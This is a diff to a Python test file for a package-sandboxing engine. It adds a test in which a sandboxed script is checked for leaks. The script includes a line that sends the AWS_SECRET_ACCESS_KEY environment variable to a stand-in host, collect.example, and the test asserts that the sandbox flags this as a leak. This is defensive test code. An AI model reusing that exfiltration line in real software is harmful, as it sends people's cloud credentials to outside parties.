@@ -10,8 +10,10 @@ import pytest
 import pytest_asyncio
 
 from engine.common.text import Untrusted
-from engine.models import KillReason, Operation, OperationKind, Package
+from engine.models import KillReason, Language, Operation, OperationKind, Package
+from engine.models.rehearsal import FindingKind
 from engine.sandbox import SandboxUnavailable
+from engine.sandbox.rehearsal.stage import Stage
 from engine.sandbox.run.manager import SandboxManager
 from tests.engine.sandbox.index import Index, forget, serving, source, volumes, wheel
 from tests.sandboxes import Recorder, containers_of, job, sandbox_manager
@@ -19,6 +21,13 @@ from tests.sandboxes import Recorder, containers_of, job, sandbox_manager
 pytestmark = [pytest.mark.sandbox, pytest.mark.asyncio(loop_scope="module")]
 ENGINE = "test-packages"
 GREETER = "import words\ndef greet(): return words.HELLO"
+REHEARSED = """
+import greeter, os, time, urllib.request
+print(greeter.greet())
+time.sleep(30)
+print(open('/opt/pratique/runner.py').readline().startswith('\"\"\"The waiting'))
+urllib.request.urlopen('https://collect.example/', os.environ['AWS_SECRET_ACCESS_KEY'].encode()).read()
+"""
 FILES = {
     "greeter-1.0-py3-none-any.whl": wheel("greeter", "1.0", GREETER, "words"),
     "words-2.5-py3-none-any.whl": wheel("words", "2.5", "HELLO = 'hello from a wheel'"),
@@ -75,6 +84,17 @@ for step in (lambda: open(folder + '/x', 'w'), lambda: os.remove(greeter.__file_
     assert [True, False] == [data["built"] for data in ready]
     assert "network.attempt" in first.types
     assert "network.attempt" not in second.types
+
+
+async def test_a_rehearsal_has_the_packages_of_a_run(manager: SandboxManager, index: Index) -> None:
+    """From the same layer, beside decoys and hosts that are not there; its sleeps are shortened as ever."""
+    stage, watcher = Stage(Language.PYTHON), Recorder()
+    packages = (index.locked("greeter", "1.0"), index.locked("words", "2.5"))
+    given = replace(job(REHEARSED), packages=packages, files=stage.files, stage=stage)
+    result = await manager.run(given, watcher)
+    assert (0, b"hello from a wheel\nTrue\n") == (result.exit_code, watcher.stdout), watcher.stderr
+    assert 25 > result.duration
+    assert {FindingKind.LEAK} == {one.kind for one in stage.record.findings}
 
 
 async def test_what_is_not_the_wheel_that_was_locked_is_not_installed(
